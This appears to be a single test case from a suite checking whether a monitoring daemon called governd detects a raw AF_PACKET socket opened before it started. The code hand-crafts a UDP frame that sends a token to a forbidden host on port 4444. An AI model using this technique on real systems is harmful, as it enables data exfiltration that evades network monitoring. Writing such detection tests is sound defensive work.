#!/usr/bin/python3
# id: c16e_older_packet
# title: an AF_PACKET socket that is older than governd
# needs: root
# stage: late-daemon
# expect: detect
# why: no hook of governd saw it being made
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('v0', 0)); go_on(); time.sleep(2.5); s.send(b'\xff' * 6 + b'\2' * 6 + b'\x08\0' + ip4(myip(), FORB, 17, udp4(myip(), FORB, 4444, P_UDP, TOK.encode())))
attempt(f, chan=('udp', 'pkt'))
